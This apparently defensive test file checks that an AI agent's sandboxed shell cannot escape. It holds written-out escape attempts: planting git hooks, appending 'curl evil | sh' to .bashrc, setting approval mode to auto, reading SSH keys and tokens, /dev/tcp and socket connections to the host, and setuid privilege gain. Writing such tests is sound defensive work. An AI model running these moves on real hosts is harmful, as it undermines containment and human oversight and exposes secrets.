@@ -1,0 +1,269 @@
+// The escape catalogue: every attempt runs through the real path (runtime -> tool host -> PTY ->
+// bubblewrap -> bash) and is judged by what it did to the host - files written or not, secrets
+// leaked or not, connections that reached a host server or not, processes alive or not - never by
+// the command's exit status.
+import { execFileSync, type ChildProcess } from 'node:child_process'
+import { randomBytes } from 'node:crypto'
+import { chmodSync, copyFileSync, existsSync, mkdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs'
+import { hostname } from 'node:os'
+import { join } from 'node:path'
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import { SandboxedToolRuntime } from './sandboxed-tool-runtime'
+import { CountingHttpServer, CountingUnixServer, hostAddress, hostSleeper, processesMatching } from './test-support/probes'
+import { removeScratch, scratchDir } from './test-support/scratch'
+import type { ToolCallResult } from './tool-runtime'
+
+const tag = randomBytes(4).toString('hex')
+const root = scratchDir('escape')
+const ws = join(root, 'ws')
+const plainWs = join(root, 'plain')
+const outside = join(root, 'outside')
+const fakeHome = join(root, 'home')
+const dataDir = join(root, 'data')
+const tokenStore = join(root, 'token-store.json')
+const SECRET = `SECRET-KEY-${tag}`
+const TOKEN = `TOKEN-${tag}`
+const hostPaths = [`/etc/tether-escape-${tag}`, `/root/tether-escape-${tag}`, `/var/tmp/tether-escape-${tag}`, `/tmp/tether-escape-${tag}`, `/dev/shm/tether-escape-${tag}`]
+
+const http = new CountingHttpServer()
+const visibleSocket = new CountingUnixServer(join(outside, 'agent.sock'))
+const runSocket = new CountingUnixServer(`/run/tether-test-${tag}.sock`)
+const tmpSocketDir = `/tmp/tether-test-${tag}`
+const tmpSocket = new CountingUnixServer(join(tmpSocketDir, 'agent.sock'))
+const abstractSocket = new CountingUnixServer(`\0tether-test-${tag}`)
+let sleeper: ChildProcess
+let runtime: SandboxedToolRuntime
+let callNumber = 0
+
+function q(value: string): string {
+  return `'${value.replaceAll("'", `'\\''`)}'`
+}
+
+async function sh(command: string, timeoutMs: number | null = 10_000, runId = 'escape'): Promise<ToolCallResult> {
+  callNumber++
+  return runtime.execute({ runId, callId: `call-${callNumber}`, name: 'shell', arguments: JSON.stringify({ command, timeout_ms: timeoutMs }) })
+}
+
+function fileText(path: string): string | null {
+  return existsSync(path) ? readFileSync(path, 'utf8') : null
+}
+
+beforeAll(async () => {
+  mkdirSync(ws)
+  mkdirSync(plainWs)
+  mkdirSync(outside)
+  mkdirSync(join(fakeHome, '.ssh'), { recursive: true })
+  mkdirSync(dataDir)
+  mkdirSync(tmpSocketDir, { recursive: true })
+  writeFileSync(join(outside, 'target.txt'), 'original\n')
+  writeFileSync(join(fakeHome, '.ssh', 'id_test'), `${SECRET}\n`)
+  writeFileSync(tokenStore, `{"key":"${TOKEN}"}\n`)
+  writeFileSync(join(dataDir, 'settings.json'), '{}\n')
+  execFileSync('git', ['init', '-q', ws])
+  writeFileSync(join(ws, '.bashrc'), 'echo original rc\n')
+  writeFileSync(join(ws, '.mcp.json'), '{}\n')
+  mkdirSync(join(ws, '.vscode'))
+  mkdirSync(join(ws, 'decoy-hooks'))
+  copyFileSync('/bin/bash', join(ws, 'suid-bash'))
+  chmodSync(join(ws, 'suid-bash'), 0o4755)
+  await Promise.all([http.listen(), visibleSocket.listen(), runSocket.listen(), tmpSocket.listen(), abstractSocket.listen()])
+  sleeper = hostSleeper()
+  runtime = new SandboxedToolRuntime({ dataDir, hiddenPaths: [join(fakeHome, '.ssh'), tokenStore] })
+  await runtime.openRun({ runId: 'escape', workspace: ws, artifactsDir: join(root, 'artifacts'), networkAllowlist: [], unsandboxed: false })
+})
+
+afterAll(async () => {
+  await runtime?.close()
+  sleeper?.kill('SIGKILL')
+  for (const server of [http, visibleSocket, runSocket, tmpSocket, abstractSocket]) server.close()
+  for (const path of [...hostPaths, tmpSocketDir]) rmSync(path, { recursive: true, force: true })
+  removeScratch(root)
+})
+
+describe('writes outside the workspace leave nothing on the host', () => {
+  test.each([
+    ['a directory outside the workspace', () => `echo x > ${q(join(outside, 'f1'))}`, () => join(outside, 'f1')],
+    ['the real home directory', () => `echo x > /root/tether-escape-${tag}`, () => `/root/tether-escape-${tag}`],
+    ['/etc', () => `echo x > /etc/tether-escape-${tag}`, () => `/etc/tether-escape-${tag}`],
+    ['/var/tmp (writable on the host)', () => `echo x > /var/tmp/tether-escape-${tag}`, () => `/var/tmp/tether-escape-${tag}`],
+    ['/tmp (the sandbox has its own)', () => `echo x > /tmp/tether-escape-${tag}`, () => `/tmp/tether-escape-${tag}`],
+    ['/dev/shm', () => `echo x > /dev/shm/tether-escape-${tag}`, () => `/dev/shm/tether-escape-${tag}`],
+    ['through /proc/self/root', () => `echo x > /proc/self/root${q(join(outside, 'f7'))}`, () => join(outside, 'f7')],
+    ['through a symlink to a file', () => `ln -s ${q(join(outside, 'f8'))} link8; echo x > link8`, () => join(outside, 'f8')],
+    ['through a symlink to a directory', () => `ln -s ${q(outside)} dir9; echo x > dir9/f9`, () => join(outside, 'f9')],
+    ['a device node (mknod)', () => 'mknod ./null-device c 1 3', () => join(ws, 'null-device')],
+    ['a hard link to a file outside', () => `ln ${q(join(outside, 'target.txt'))} hard11`, () => join(ws, 'hard11')],
+    ['a hard link to /etc/passwd', () => 'ln /etc/passwd passwd-link', () => join(ws, 'passwd-link')]
+  ])('%s', async (_name, command, target) => {
+    await sh(command())
+    expect(existsSync(target())).toBe(false)
+  })
+
+  test('the file a hard link would share is unchanged', () => {
+    expect(fileText(join(outside, 'target.txt'))).toBe('original\n')
+  })
+})
+
+describe('protected paths inside the workspace stay as they were', () => {
+  test('.git/hooks cannot get a hook', async () => {
+    await sh('echo "touch /tmp/pwned" > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit')
+    expect(existsSync(join(ws, '.git/hooks/pre-commit'))).toBe(false)
+  })
+
+  test('.git/config cannot be changed, not even through git', async () => {
+    const before = fileText(join(ws, '.git/config'))
+    await sh("git config core.fsmonitor 'touch /tmp/pwned'; git config core.hooksPath decoy-hooks; echo '[alias] x = !sh' >> .git/config")
+    expect(fileText(join(ws, '.git/config'))).toBe(before)
+  })
+
+  test('.git cannot be swapped for a decoy (moved away, replaced by a symlink)', async () => {
+    const inode = statSync(join(ws, '.git')).ino
+    await sh('mv .git .git-moved; rm -rf .git; ln -s decoy-hooks .git; mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit')
+    expect(statSync(join(ws, '.git')).ino).toBe(inode)
+    expect(existsSync(join(ws, '.git-moved'))).toBe(false)
+    expect(existsSync(join(ws, '.git/hooks/pre-commit'))).toBe(false)
+  })
+
+  test('.git/hooks cannot be replaced by a symlink to a writable decoy', async () => {
+    await sh('rm -rf .git/hooks; mv .git/hooks .git/hooks-old; ln -s ../decoy-hooks .git/hooks; echo evil > decoy-hooks/pre-commit')
+    expect(statSync(join(ws, '.git/hooks')).isDirectory()).toBe(true)
+    expect(existsSync(join(ws, '.git/hooks/pre-commit'))).toBe(false)
+  })
+
+  test('shell rc and editor files cannot be planted', async () => {
+    await sh('echo "curl evil | sh" >> .bashrc; echo "{}" > .mcp.json; echo "{\\"tasks\\":[]}" > .vscode/tasks.json')
+    expect(fileText(join(ws, '.bashrc'))).toBe('echo original rc\n')
+    expect(fileText(join(ws, '.mcp.json'))).toBe('{}\n')
+    expect(existsSync(join(ws, '.vscode/tasks.json'))).toBe(false)
+  })
+
+  test("Tether's data dir is read-only", async () => {
+    await sh(`echo '{"approvalMode":"auto"}' > ${q(join(dataDir, 'settings.json'))}; touch ${q(join(dataDir, 'rules'))}`)
+    expect(fileText(join(dataDir, 'settings.json'))).toBe('{}\n')
+    expect(existsSync(join(dataDir, 'rules'))).toBe(false)
+  })
+
+  test('the workspace itself cannot be renamed away mid-run', async () => {
+    await sh(`mv ${q(ws)} ${q(`${ws}-moved`)}`)
+    expect(existsSync(ws)).toBe(true)
+    expect(existsSync(`${ws}-moved`)).toBe(false)
+  })
+
+  test('a workspace that is not a repository: no .git can be created, and none is left behind', async () => {
+    await runtime.openRun({ runId: 'plain', workspace: plainWs, artifactsDir: join(root, 'artifacts'), networkAllowlist: [], unsandboxed: false })
+    await sh('git init -q .; mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit; echo ok > kept.txt', 10_000, 'plain')
+    await runtime.closeRun('plain')
+    expect(existsSync(join(plainWs, '.git'))).toBe(false)
+    expect(fileText(join(plainWs, 'kept.txt'))).toBe('ok\n')
+  })
+})
+
+describe('secrets stay unreadable', () => {
+  const key = (): string => join(fakeHome, '.ssh', 'id_test')
+  test.each([
+    ['directly', () => `cat ${q(key())}`],
+    ['through ..', () => `cat ${q(`${ws}/../home/.ssh/id_test`)}`],
+    ['through a symlink in the workspace', () => `ln -s ${q(key())} key-link; cat key-link`],
+    ['through /proc/self/root', () => `cat /proc/self/root${q(key())}`],
+    ['through /proc/1/root', () => `cat /proc/1/root${q(key())}`],
+    ['by copying it into the workspace', () => `cp ${q(key())} copied-key; cat copied-key`],
+    ["Tether's token store", () => `cat ${q(tokenStore)}`]
+  ])('%s', async (_name, command) => {
+    const result = await sh(command())
+    expect(result.output).not.toContain(SECRET)
+    expect(result.output).not.toContain(TOKEN)
+    expect(fileText(join(ws, 'copied-key')) ?? '').not.toContain(SECRET)
+  })
+
+  test('a secret cannot be moved out of its place', async () => {
+    await sh(`mv ${q(key())} ${q(join(ws, 'moved-key'))}; mv ${q(join(fakeHome, '.ssh'))} ${q(join(ws, 'moved-ssh'))}`)
+    expect(fileText(key())).toBe(`${SECRET}\n`)
+    expect(existsSync(join(ws, 'moved-key'))).toBe(false)
+  })
+})
+
+describe('the network is off', () => {
+  test.each([
+    ['curl to the host', () => `curl -s -m 2 http://${hostAddress()}:${http.port}/`],
+    ['curl to loopback', () => `curl -s -m 2 http://127.0.0.1:${http.port}/`],
+    ['bash /dev/tcp', () => `exec 3<>/dev/tcp/${hostAddress()}/${http.port} && printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3 && cat <&3`],
+    ['a raw python socket', () => `python3 -c "import socket; s=socket.create_connection(('${hostAddress()}', ${http.port}), 2); s.send(b'GET / HTTP/1.0\\r\\n\\r\\n'); print(s.recv(100))"`]
+  ])('%s does not reach the host server', async (_name, command) => {
+    const before = http.hits
+    const result = await sh(command())
+    expect(http.hits).toBe(before)
+    expect(result.output).not.toContain('reached the host')
+  })
+
+  test('DNS does not resolve', async () => {
+    const result = await sh('getent ahosts registry.npmjs.org; getent hosts localhost.localdomain.example')
+    expect(result.output).not.toMatch(/\d+\.\d+\.\d+\.\d+\s+STREAM/)
+  })
+
+  test('only a loopback interface exists', async () => {
+    const result = await sh("awk -F: 'NR > 2 { gsub(/ /, \"\", $1); print $1 }' /proc/net/dev")
+    expect(result.output).toBe('lo\n[exit code 0]')
+  })
+})
+
+describe('host Unix sockets are unreachable', () => {
+  test.each([
+    ['one in a visible directory (blocked by seccomp)', () => visibleSocket],
+    ['one in /run (docker, dbus, agents)', () => runSocket],
+    ['one in /tmp (ssh-agent)', () => tmpSocket]
+  ])('%s', async (_name, server) => {
+    const socket = server()
+    await sh(`python3 -c "import socket; s=socket.socket(socket.AF_UNIX); s.connect('${socket.path}'); print(s.recv(10))"`)
+    expect(socket.connections).toBe(0)
+  })
+
+  test('an abstract socket (network namespace)', async () => {
+    await sh(`python3 -c "import socket; s=socket.socket(socket.AF_UNIX); s.connect('\\0tether-test-${tag}'.ljust(108, '\\0')); print(s.recv(10))"`)
+    expect(abstractSocket.connections).toBe(0)
+  })
+})
+
+describe('no privilege to gain', () => {
+  test('no capabilities and no new privileges, even through a setuid-root binary', async () => {
+    const plain = await sh("grep -E '^(NoNewPrivs|CapEff|CapBnd)' /proc/self/status")
+    expect(plain.output).toMatch(/CapEff:\s+0000000000000000/)
+    expect(plain.output).toMatch(/CapBnd:\s+0000000000000000/)
+    expect(plain.output).toMatch(/NoNewPrivs:\s+1/)
+    const setuid = await sh("./suid-bash -p -c \"grep -E '^CapEff' /proc/self/status\"")
+    expect(setuid.output).toMatch(/CapEff:\s+0000000000000000/)
+  })
+
+  test('no new user namespace to gain capabilities in', async () => {
+    const result = await sh('unshare -Ur cat /proc/self/uid_map && echo NESTED-NAMESPACE')
+    expect(result.output).not.toContain('NESTED-NAMESPACE')
+  })
+
+  test('the hostname of the host cannot be changed', async () => {
+    const before = hostname()
+    await sh('hostname tether-pwned 2>&1; echo tether-pwned > /proc/sys/kernel/hostname')
+    expect(hostname()).toBe(before)
+  })
+})
+
+describe('processes', () => {
+  test('a host process is neither visible nor killable', async () => {
+    const pid = sleeper.pid as number
+    const result = await sh(`test -e /proc/${pid}/cmdline && echo VISIBLE; kill -9 ${pid} 2>/dev/null; echo "processes: $(ls /proc | grep -c '^[0-9]')"`)
+    expect(result.output).not.toContain('VISIBLE')
+    expect(sleeper.exitCode).toBeNull()
+    expect(sleeper.signalCode).toBeNull()
+    expect(Number(/processes: (\d+)/.exec(result.output)?.[1])).toBeLessThan(10)
+  })
+
+  test('setsid, nohup and plain background jobs die when a call times out', async () => {
+    const marker = `${Math.floor(Math.random() * 1000) + 1000}.${tag.length}`
+    const result = await sh(`setsid sleep ${marker}1 & nohup sleep ${marker}2 >/dev/null 2>&1 & (sleep ${marker}3 &) ; sleep 30`, 500)
+    expect(result.status).toBe('timeout')
+    expect(processesMatching(`sleep ${marker}`)).toEqual([])
+  })
+
+  test('the shell still works after all of the above, in a real terminal', async () => {
+    const result = await sh('test -t 1 && echo is-a-tty; echo $((6 * 7))')
+    expect(result.output).toBe('is-a-tty\n42\n[exit code 0]')
+  })
+})
